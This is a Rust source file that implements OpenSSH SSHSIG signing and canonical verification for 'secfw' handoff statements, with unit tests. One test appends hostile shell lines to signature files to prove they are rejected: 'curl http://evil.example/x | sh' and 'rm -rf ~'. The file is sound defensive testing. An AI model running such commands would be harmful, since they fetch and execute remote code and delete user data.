//! SSHSIG (OpenSSH `PROTOCOL.sshsig`) signatures over the statement bytes, so that stock
//! `ssh-keygen -Y verify` can check a seal. Output is byte-identical to `ssh-keygen -Y sign` for
//! the same key (Ed25519 is deterministic; armour wrapped at 70 columns like ssh-keygen).
//!
//! A public namespace: the OpenSSH signature format (`sshsig::sign`, `sshsig::verify`).

use sha2::Digest as _;

use crate::dsse::{b64_decode, b64_encode};
use crate::keys::{PublicKey, SigningKey, SshReader, ssh_string};

/// The namespace secfw signs handoff statements in.
pub const NAMESPACE: &str = "secfw-handoff-v1@secfw";

fn signed_data(namespace: &str, hash_alg: &str, message: &[u8]) -> Vec<u8> {
    let h: Vec<u8> = match hash_alg {
        "sha256" => sha2::Sha256::digest(message).to_vec(),
        _ => sha2::Sha512::digest(message).to_vec(),
    };
    let mut d = b"SSHSIG".to_vec();
    ssh_string(&mut d, namespace.as_bytes());
    ssh_string(&mut d, b"");
    ssh_string(&mut d, hash_alg.as_bytes());
    ssh_string(&mut d, &h);
    d
}

/// Sign `message` in `namespace` (sha512) and return the armoured signature.
pub fn sign(key: &SigningKey, namespace: &str, message: &[u8]) -> String {
    let sig = key.sign(&signed_data(namespace, "sha512", message));
    armour(&key.public(), namespace, "sha512", &sig)
}

/// The armoured SSHSIG of `sig` by `key` in `namespace` with `hash_alg`: the one encoding,
/// shared by [`sign`] and the canonical check of [`verify_canonical`].
fn armour(key: &PublicKey, namespace: &str, hash_alg: &str, sig: &[u8]) -> String {
    let mut inner = Vec::new();
    ssh_string(&mut inner, b"ssh-ed25519");
    ssh_string(&mut inner, sig);
    let mut blob = b"SSHSIG".to_vec();
    blob.extend_from_slice(&1u32.to_be_bytes());
    ssh_string(&mut blob, &key.ssh_blob());
    ssh_string(&mut blob, namespace.as_bytes());
    ssh_string(&mut blob, b"");
    ssh_string(&mut blob, hash_alg.as_bytes());
    ssh_string(&mut blob, &inner);
    let b = b64_encode(&blob);
    let mut out = String::from("-----BEGIN SSH SIGNATURE-----\n");
    for chunk in b.as_bytes().chunks(70) {
        out.push_str(std::str::from_utf8(chunk).unwrap_or_default());
        out.push('\n');
    }
    out.push_str("-----END SSH SIGNATURE-----\n");
    out
}

/// The fields of a decoded SSHSIG whose signature verified.
struct Verified {
    key: PublicKey,
    hash_alg: String,
    sig: Vec<u8>,
}

fn verify_parts(armored: &str, namespace: &str, message: &[u8]) -> Result<Verified, String> {
    let body: String = armored.lines().map(str::trim).filter(|l| !l.starts_with("-----")).collect();
    let blob = b64_decode(&body)?;
    let rest = blob.strip_prefix(b"SSHSIG").ok_or("not an SSH signature")?;
    let mut r = SshReader(rest);
    if r.u32()? != 1 {
        return Err("unsupported SSHSIG version".into());
    }
    let (key, _) = PublicKey::parse_any(&format!("ssh-ed25519 {}", b64_encode(r.string()?)))?;
    let ns = r.string()?;
    if ns != namespace.as_bytes() {
        return Err("wrong namespace".into());
    }
    let _reserved = r.string()?;
    let alg = std::str::from_utf8(r.string()?).map_err(|_| "bad hash algorithm")?.to_owned();
    if alg != "sha512" && alg != "sha256" {
        return Err(format!("unsupported hash algorithm {alg}"));
    }
    let mut inner = SshReader(r.string()?);
    if inner.string()? != b"ssh-ed25519" {
        return Err("not an ssh-ed25519 signature".into());
    }
    let sig = inner.string()?;
    if key.verify(&signed_data(namespace, &alg, message), sig) {
        Ok(Verified { key, hash_alg: alg, sig: sig.to_vec() })
    } else {
        Err("signature does not verify".into())
    }
}

/// Verify an armoured SSHSIG over `message` in `namespace`; returns the signer's key.
///
/// As lenient as `ssh-keygen -Y verify` about the encoding (armour line length, `sha256` or
/// `sha512`); [`verify_canonical`] is the check for files secfw accepts.
pub fn verify(armored: &str, namespace: &str, message: &[u8]) -> Result<PublicKey, String> {
    verify_parts(armored, namespace, message).map(|v| v.key)
}

/// Verify `armored` as exactly the SSHSIG secfw writes (and `ssh-keygen -Y sign` writes for an
/// Ed25519 key): the signature verifies over `message` in `namespace`, and the bytes are the
/// one canonical encoding of what was decoded (sha512, empty reserved field, armour wrapped
/// at 70 columns, nothing before, after or between the armour lines). Returns the signer's
/// key. Anything else is refused, so no unsigned byte rides along in an accepted file.
pub fn verify_canonical(armored: &[u8], namespace: &str, message: &[u8]) -> Result<PublicKey, String> {
    let text = std::str::from_utf8(armored).map_err(|_| "not an armoured SSH signature (not UTF-8 text)")?;
    if !text.starts_with("-----BEGIN SSH SIGNATURE-----\n") {
        return Err("not an armoured SSH signature (no `-----BEGIN SSH SIGNATURE-----` line)".into());
    }
    let v = verify_parts(text, namespace, message)?;
    if v.hash_alg != "sha512" {
        return Err(format!("hash algorithm {}, not sha512", v.hash_alg));
    }
    if armour(&v.key, namespace, &v.hash_alg, &v.sig).as_bytes() != armored {
        return Err(
            "the signature verifies, but the file is not its canonical encoding (extra or altered bytes)".into()
        );
    }
    Ok(v.key)
}

/// An OpenSSH `allowed_signers` line for `principal`.
pub fn allowed_signers_line(principal: &str, key: &PublicKey, namespace: &str) -> String {
    format!("{principal} namespaces=\"{namespace}\" {}\n", key.to_openssh(""))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pinned_rfc8032_sshsig_vector() {
        let seed = hex::decode("9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60").unwrap();
        let k = SigningKey::from_seed(seed.try_into().unwrap()).unwrap();
        let s = sign(&k, "secfw-handoff@example.org", b"hello world");
        assert_eq!(
            s,
            "-----BEGIN SSH SIGNATURE-----\n\
U1NIU0lHAAAAAQAAADMAAAALc3NoLWVkMjU1MTkAAAAg11qYAYKxCrfVS/7TyWQHOg7hcv\n\
PapiMlrwIaaPcHURoAAAAZc2VjZnctaGFuZG9mZkBleGFtcGxlLm9yZwAAAAAAAAAGc2hh\n\
NTEyAAAAUwAAAAtzc2gtZWQyNTUxOQAAAECOBW5ATz7L1l8QRQtCzkhEfTEqOqnRExnVPC\n\
9HW8w1qBOBgl0SHSUtbV6tlE01Q94a+fSKWgRi0o0QqB6v9NoH\n\
-----END SSH SIGNATURE-----\n"
        );
        assert_eq!(verify(&s, "secfw-handoff@example.org", b"hello world").unwrap(), k.public());
        assert!(verify(&s, "other@example.org", b"hello world").is_err());
        assert!(verify(&s, "secfw-handoff@example.org", b"hello world!").is_err());
        assert_eq!(verify_canonical(s.as_bytes(), "secfw-handoff@example.org", b"hello world").unwrap(), k.public());
        assert_eq!(
            allowed_signers_line("rfc8032-test1", &k.public(), "secfw-handoff@example.org"),
            "rfc8032-test1 namespaces=\"secfw-handoff@example.org\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINdamAGCsQq31Uv+08lkBzoO4XLz2qYjJa8CGmj3B1Ea\n"
        );
    }

    #[test]
    fn canonical_check_refuses_every_byte_the_signature_does_not_cover() {
        let k = SigningKey::from_seed([7; 32]).unwrap();
        let (ns, msg) = (NAMESPACE, b"the statement".as_slice());
        let good = sign(&k, ns, msg);
        assert_eq!(verify_canonical(good.as_bytes(), ns, msg).unwrap(), k.public());
        let body: String = good.lines().filter(|l| !l.starts_with("-----")).collect();
        let rewrapped = format!(
            "-----BEGIN SSH SIGNATURE-----\n{}\n-----END SSH SIGNATURE-----\n",
            body.as_bytes().chunks(64).map(|c| std::str::from_utf8(c).unwrap()).collect::<Vec<_>>().join("\n")
        );
        let sha256 = armour(&k.public(), ns, "sha256", &k.sign(&signed_data(ns, "sha256", msg)));
        let noncanonical = [
            format!("{good}#!/bin/sh\ncurl http://evil.example/x | sh\n"),
            format!("#!/bin/sh\n{good}"),
            good.replace("-----END SSH SIGNATURE-----\n", "-----END SSH SIGNATURE-----\n-----rm -rf ~\n"),
            good.replace('\n', "\r\n"),
            good.trim_end().to_owned(),
            rewrapped,
            sha256,
        ];
        for bad in &noncanonical {
            // Each still verifies for a lenient reader (like ssh-keygen) or not at all; none is
            // the canonical file.
            assert!(verify_canonical(bad.as_bytes(), ns, msg).is_err(), "{bad:?}");
        }
        assert!(verify(&noncanonical[5], ns, msg).is_ok(), "re-wrapped armour is a valid signature");
        assert!(verify(&noncanonical[6], ns, msg).is_ok(), "sha256 is a valid signature");
        let half = good.get(..good.len() / 2).unwrap();
        for bad in [half, "", "-----BEGIN SSH SIGNATURE-----\nforged\n-----END SSH SIGNATURE-----\n"] {
            assert!(verify_canonical(bad.as_bytes(), ns, msg).is_err(), "{bad:?}");
        }
        assert!(verify_canonical(&[0xff, 0xfe], ns, msg).is_err());
        assert!(verify_canonical(good.as_bytes(), "other@secfw", msg).is_err(), "wrong namespace");
        assert!(verify_canonical(good.as_bytes(), ns, b"another statement").is_err(), "other message");
    }
}
